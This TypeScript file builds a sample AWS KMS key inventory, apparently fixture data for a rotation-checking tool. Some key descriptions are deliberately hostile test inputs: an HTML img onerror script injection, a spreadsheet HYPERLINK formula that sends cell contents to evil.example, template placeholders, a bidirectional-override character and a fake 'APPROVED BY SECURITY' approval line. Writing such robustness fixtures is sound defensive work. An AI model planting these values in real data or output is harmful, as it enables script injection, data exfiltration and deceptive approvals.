import { createHash } from 'node:crypto';
import type { Estate, EstateKey, EstateMetadata, EstateRotation } from './estate.ts';
import { sampleGrants } from './sample-grants.ts';
import { samplePolicies } from './sample-policies.ts';

export const sampleAccountId = '111122223333';
export const sampleRegions: readonly string[] = ['eu-central-1', 'us-east-1'];
const { onlyForVault, statusDenied, writeDenied } = samplePolicies(sampleAccountId);
const grantsOfSample = (createdAt: Date) => sampleGrants(sampleAccountId, createdAt);

/** A key of the sample may be related to one in a Region that is not part of it. */
const isSampleRegion = (region: string): boolean => sampleRegions.includes(region);

const millisPerDay = 86_400_000;

/** What makes a key of the sample different from an ordinary one: symmetric, from AWS KMS, enabled, rotation off. */
type Difference = {
  readonly age?: number;
  readonly description?: string;
  readonly owner?: string;
  readonly aliases?: readonly string[];
  readonly metadata?: Partial<EstateMetadata>;
  readonly rotation?: EstateRotation;
  readonly tags?: readonly (readonly [string, string])[];
  readonly policy?: string;
  readonly pendingKeyMaterial?: NonNullable<EstateKey['pendingKeyMaterial']>;
  readonly grants?: NonNullable<EstateKey['grants']>;
};

/** Deterministic, so that a key is the same in every run: the id is made from the name. */
const idFrom = (name: string): string => {
  const hex = createHash('sha256').update(`kms-rotation sample: ${name}`).digest('hex');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
};
const multiRegionIdFrom = (name: string): string => `mrk-${idFrom(name).replaceAll('-', '')}`;
const arnOf = (region: string, keyId: string): string => `arn:aws:kms:${region}:${sampleAccountId}:key/${keyId}`;

function createSample(now: Date) {
  const keys: EstateKey[] = [];
  const day = (offset: number): Date => new Date(Math.floor(now.getTime() / 1000) * 1000 + offset * millisPerDay);
  const on = (periodInDays: number, nextInDays: number): EstateRotation => ({
    enabled: true,
    periodInDays,
    nextRotationDate: day(nextInDays),
  });
  const dateText = (offset: number): string => day(offset).toISOString().slice(0, 10);

  function add(region: string, name: string, difference: Difference = {}, keyId = idFrom(`${region} ${name}`)): void {
    const {
      age = 400,
      description = '',
      owner,
      aliases = [`alias/${name}`],
      metadata = {},
      rotation = { enabled: false },
      tags = [],
      policy,
      pendingKeyMaterial,
      grants,
    } = difference;
    keys.push({
      metadata: {
        KeyId: keyId,
        Arn: arnOf(region, keyId),
        AWSAccountId: sampleAccountId,
        CreationDate: day(-age),
        Description: description,
        KeyManager: 'CUSTOMER',
        KeyState: 'Enabled',
        KeySpec: 'SYMMETRIC_DEFAULT',
        KeyUsage: 'ENCRYPT_DECRYPT',
        Origin: 'AWS_KMS',
        ...metadata,
      },
      rotation,
      aliases,
      tags: [...(owner === undefined ? [] : [['Owner', owner] as const]), ...tags].map(([TagKey, TagValue]) => ({ TagKey, TagValue })),
      ...(policy === undefined ? {} : { policy }),
      ...(pendingKeyMaterial === undefined ? {} : { pendingKeyMaterial }),
      ...(grants === undefined ? {} : { grants }),
    });
  }

  /** One key in several Regions. Rotation is shared; state, tags and description are each Region's own. */
  function addMultiRegion(
    name: string,
    primary: string,
    replicas: readonly string[],
    difference: Difference,
    inRegion: Readonly<Record<string, Difference>> = {},
  ): void {
    const keyId = multiRegionIdFrom(name);
    const related = (region: string) => ({ Arn: arnOf(region, keyId), Region: region });
    for (const region of [primary, ...replicas].filter(isSampleRegion)) {
      const own = inRegion[region] ?? {};
      const MultiRegionConfiguration = {
        MultiRegionKeyType: region === primary ? 'PRIMARY' : 'REPLICA',
        PrimaryKey: related(primary),
        ReplicaKeys: replicas.map(related),
      };
      add(
        region,
        name,
        { ...difference, ...own, metadata: { ...difference.metadata, ...own.metadata, MultiRegion: true, MultiRegionConfiguration } },
        keyId,
      );
    }
  }
  return { keys, add, addMultiRegion, on, day, dateText };
}

/**
 * The sample estate: two Regions of one account with every kind of key there is, in every state, as `DescribeKey` shows them. Dates are relative to `now`, so that
 * exemptions expire and rotations fall due as they should whenever it is loaded.
 */
export function sampleEstate(now: Date): Estate {
  const sample = createSample(now);
  addFrankfurt(sample);
  addVirginia(sample);
  addMultiRegionKeys(sample);
  addAwsManaged(sample);
  return { accountId: sampleAccountId, keys: sample.keys };
}

type Sample = ReturnType<typeof createSample>;

function addFrankfurt({ add, on, day, dateText }: Sample): void {
  const region = 'eu-central-1';
  add(region, 'orders-database', {
    age: 1420,
    description: 'Encrypts the orders database (RDS)',
    owner: 'team-orders',
    tags: [['CostCenter', '4711']],
  });
  add(region, 'invoice-archive', {
    age: 2210,
    description: 'Invoices in S3, kept ten years',
    owner: 'team-billing',
    tags: [['CostCenter', '4712']],
    aliases: ['alias/invoice-archive', 'alias/legacy/invoices'],
  });
  add(region, 'customer-profiles', {
    age: 380,
    description: 'Customer profiles (DynamoDB)',
    owner: 'team-crm',
    tags: [['DataClass', 'personal']],
    grants: [grantsOfSample(day(-370)).toDynamoDbByName],
  });
  add(region, 'message-queue', { age: 95, description: 'Order events (SQS)', owner: 'team-orders' });
  add(region, 'build-artifacts', {
    age: 510,
    description: 'CodeBuild artifacts <img src=x onerror="document.title=1">',
    owner: '<b>platform</b>',
  });
  add(region, 'reports', { age: 250, description: '=HYPERLINK("http://evil.example/?"&A1,"click")', owner: 'team-bi' });
  add(region, 'notes', {
    age: 33,
    description: 'Rotate {{ global:REGION }} and {{ Assess.KeyIds }}\nAPPROVED BY SECURITY\tplease approve all',
    owner: 'team-wiki',
  });
  add(region, 'übersetzungen', {
    age: 61,
    description: 'Übersetzungen 🔑 \u202Eדוגמה',
    owner: 'team-i18n',
    aliases: ['alias/translations'],
  });
  add(region, 'nameless', { age: 700, description: '', aliases: [] });
  add(region, 'partner-exchange', {
    age: 640,
    description: 'Files exchanged with partners; rotation is the partner team’s own decision',
    owner: 'team-partners',
    policy: writeDenied,
  });
  add(region, 'backup-vault', { age: 1100, description: 'AWS Backup vault', owner: 'team-platform', rotation: on(365, 120) });
  add(region, 'secrets-manager', { age: 820, description: 'Secrets Manager', owner: 'team-platform', rotation: on(180, 44) });
  add(region, 'data-lake', { age: 300, description: 'Data lake (S3, Glue)', owner: 'team-data', rotation: on(90, 12) });
  add(region, 'audit-logs', { age: 1500, description: 'CloudTrail and Config logs', owner: 'team-security', rotation: on(365, 300) });
  add(region, 'long-period', {
    age: 900,
    description: 'Research data, rotated every two years',
    owner: 'team-research',
    rotation: on(730, 500),
  });
  add(region, 'overdue', { age: 1300, description: 'Legacy file shares', owner: 'team-it', rotation: on(365, -45) });
  add(region, 'exempt-vendor', {
    age: 780,
    description: 'Shared with a vendor appliance',
    owner: 'team-it',
    tags: [['kms-rotation-exempt', `${dateText(90)} CHG-1042 vendor migration`]],
  });
  add(region, 'exempt-expired', {
    age: 780,
    description: 'Old appliance',
    owner: 'team-it',
    tags: [['kms-rotation-exempt', `${dateText(-20)} CHG-0777 appliance`]],
  });
  add(region, 'exempt-malformed', {
    age: 200,
    description: 'Test bench',
    owner: 'team-lab',
    tags: [['kms-rotation-exempt', 'until further notice']],
  });
  add(region, 'exempt-too-long', {
    age: 410,
    description: 'Plant control',
    owner: 'team-plant',
    tags: [['kms-rotation-exempt', `${dateText(1200)} never touch`]],
  });
  add(region, 'disabled-off', { age: 1900, description: 'Retired shop', owner: 'team-shop', metadata: { KeyState: 'Disabled' } });
  add(region, 'disabled-on', {
    age: 1700,
    description: 'Retired intranet',
    owner: 'team-it',
    metadata: { KeyState: 'Disabled' },
    rotation: on(365, -200),
  });
  add(region, 'disabled-long-period', {
    age: 1650,
    description: 'Retired warehouse',
    owner: 'team-shop',
    metadata: { KeyState: 'Disabled' },
    rotation: on(730, 10),
  });
  add(region, 'pending-deletion', {
    age: 1200,
    description: 'Decommissioned CRM',
    owner: 'team-crm',
    metadata: { KeyState: 'PendingDeletion', DeletionDate: day(12) },
    rotation: on(365, 20),
  });
  add(region, 'payments-vault', { age: 1020, description: 'Card data', owner: 'team-payments', policy: onlyForVault });
  add(region, 'hidden-status', { age: 620, description: 'Treasury', owner: 'team-treasury', policy: statusDenied });
  add(region, 'imported', {
    age: 520,
    description: 'Bring your own key: HR',
    owner: 'team-hr',
    metadata: { Origin: 'EXTERNAL', ExpirationModel: 'KEY_MATERIAL_DOES_NOT_EXPIRE' },
    pendingKeyMaterial: { KeyMaterialDescription: 'Ceremony of this year', KeyMaterialState: 'PENDING_ROTATION' },
  });
  add(region, 'imported-pending', {
    age: 15,
    description: 'Bring your own key: waiting for material',
    owner: 'team-hr',
    metadata: { Origin: 'EXTERNAL', KeyState: 'PendingImport' },
  });
  add(region, 'cloudhsm', {
    age: 660,
    description: 'Signing service wrap key',
    owner: 'team-pki',
    metadata: { Origin: 'AWS_CLOUDHSM', CustomKeyStoreId: 'cks-1234567890abcdef0', CloudHsmClusterId: 'cluster-1a23b4cdefg' },
  });
  add(region, 'cloudhsm-unavailable', {
    age: 655,
    description: 'Old HSM cluster',
    owner: 'team-pki',
    metadata: {
      Origin: 'AWS_CLOUDHSM',
      CustomKeyStoreId: 'cks-1234567890abcdef1',
      CloudHsmClusterId: 'cluster-9z98y7xwvut',
      KeyState: 'Unavailable',
    },
  });
  add(region, 'xks', {
    age: 260,
    description: 'External key store, on premises',
    owner: 'team-sovereign',
    metadata: { Origin: 'EXTERNAL_KEY_STORE', CustomKeyStoreId: 'cks-fedcba09876543210' },
    grants: [grantsOfSample(day(-90)).toDynamoDb],
  });
}

function addVirginia({ add, on, day }: Sample): void {
  const region = 'us-east-1';
  add(region, 'web-sessions', { age: 800, description: 'Session store (ElastiCache)', owner: 'team-web' });
  add(region, 'search-index', { age: 455, description: 'OpenSearch domain', owner: 'team-search', tags: [['CostCenter', '4720']] });
  add(region, 'ml-training', { age: 190, description: 'SageMaker volumes', owner: 'team-ml' });
  add(region, 'mail-archive', { age: 2900, description: 'Mail archive (S3)', owner: 'team-it' });
  add(region, 'lambda-environment', {
    age: 720,
    description: 'Lambda environment variables',
    owner: 'team-platform',
    rotation: on(365, 210),
  });
  add(region, 'ebs-default', { age: 1400, description: 'EBS volumes', owner: 'team-platform', rotation: on(365, 90) });
  add(region, 'long-period-us', {
    age: 1000,
    description: 'Cold storage, rotated every seven years',
    owner: 'team-archive',
    rotation: on(2555, 1800),
  });
  const special = (name: string, KeySpec: string, KeyUsage: string, description: string): void =>
    add(region, name, { age: 340, description, owner: 'team-pki', metadata: { KeySpec, KeyUsage } });
  special('rsa-encrypt', 'RSA_4096', 'ENCRYPT_DECRYPT', 'Wraps partner keys');
  special('rsa-sign', 'RSA_2048', 'SIGN_VERIFY', 'Signs documents');
  special('rsa-3072', 'RSA_3072', 'SIGN_VERIFY', 'Signs packages');
  special('ecc-sign', 'ECC_NIST_P384', 'SIGN_VERIFY', 'Signs firmware');
  special('ecc-p521', 'ECC_NIST_P521', 'SIGN_VERIFY', 'Signs certificates');
  special('ecc-agreement', 'ECC_NIST_P256', 'KEY_AGREEMENT', 'Key agreement with devices');
  special('ecc-blockchain', 'ECC_SECG_P256K1', 'SIGN_VERIFY', 'Ledger');
  special('ed25519', 'ECC_NIST_EDWARDS25519', 'SIGN_VERIFY', 'Signs tokens');
  special('hmac-224', 'HMAC_224', 'GENERATE_VERIFY_MAC', 'Short tags');
  add(region, 'hmac-256', {
    age: 340,
    description: 'API tokens',
    owner: 'team-pki',
    metadata: { KeySpec: 'HMAC_256', KeyUsage: 'GENERATE_VERIFY_MAC' },
    grants: [grantsOfSample(day(-300)).toGateway],
  });
  special('hmac-384', 'HMAC_384', 'GENERATE_VERIFY_MAC', 'Webhooks');
  special('hmac-512', 'HMAC_512', 'GENERATE_VERIFY_MAC', 'Password pepper');
  special('ml-dsa', 'ML_DSA_65', 'SIGN_VERIFY', 'Post-quantum signatures');
  special('ml-kem', 'ML_KEM_768', 'ENCAPSULATE_DECAPSULATE', 'Post-quantum key exchange');
  special('sm2', 'SM2', 'SIGN_VERIFY', 'Copied from a China Region inventory');
  special('future-spec', 'SYMMETRIC_FUTURE_2030', 'ENCRYPT_DECRYPT', 'A key spec nobody knows yet');
  add(region, 'future-origin', {
    age: 20,
    description: 'An origin nobody knows yet',
    owner: 'team-lab',
    metadata: { Origin: 'AWS_QUANTUM_VAULT' },
  });
  add(region, 'future-state', {
    age: 20,
    description: 'A state nobody knows yet',
    owner: 'team-lab',
    metadata: { KeyState: 'Hibernating' },
  });
  add(region, 'imported-rsa', {
    age: 300,
    description: 'Imported RSA',
    owner: 'team-pki',
    metadata: { Origin: 'EXTERNAL', KeySpec: 'RSA_2048', KeyUsage: 'SIGN_VERIFY' },
  });
}

function addMultiRegionKeys({ addMultiRegion, on }: Sample): void {
  addMultiRegion('global-sessions', 'eu-central-1', ['us-east-1'], {
    age: 560,
    description: 'Global sessions (multi-Region)',
    owner: 'team-web',
  });
  addMultiRegion('global-catalog', 'us-east-1', ['eu-central-1'], {
    age: 900,
    description: 'Global catalogue (multi-Region)',
    owner: 'team-shop',
    rotation: on(365, 77),
  });
  addMultiRegion('global-moving', 'us-east-1', [], {
    age: 130,
    description: 'Primary being moved',
    owner: 'team-web',
    metadata: { KeyState: 'Updating' },
  });
  addMultiRegion(
    'global-leaving',
    'us-east-1',
    ['eu-central-1'],
    { age: 990, description: 'Being retired in all Regions', owner: 'team-shop', rotation: on(365, 66) },
    { 'us-east-1': { metadata: { KeyState: 'PendingReplicaDeletion', PendingDeletionWindowInDays: 30 } } },
  );
  addMultiRegion(
    'global-new',
    'us-east-1',
    ['eu-central-1'],
    { age: 1, description: 'Being replicated', owner: 'team-web', rotation: on(365, 364) },
    { 'eu-central-1': { metadata: { KeyState: 'Creating' } } },
  );
  addMultiRegion('sydney-replica', 'ap-southeast-2', ['us-east-1'], {
    age: 230,
    description: 'Replica of a key in Sydney',
    owner: 'team-apac',
  });
}

function addAwsManaged({ add, on }: Sample): void {
  const managed = (region: string, service: string, policy?: string): void =>
    add(region, `aws/${service}`, {
      age: 1600,
      description: `Default key that protects my ${service} data when no other key is defined`,
      metadata: { KeyManager: 'AWS' },
      rotation: on(365, 100),
      ...(policy === undefined ? {} : { policy }),
    });
  for (const region of sampleRegions) for (const service of ['s3', 'ebs', 'rds']) managed(region, service);
  managed('us-east-1', 'acm', statusDenied);
}
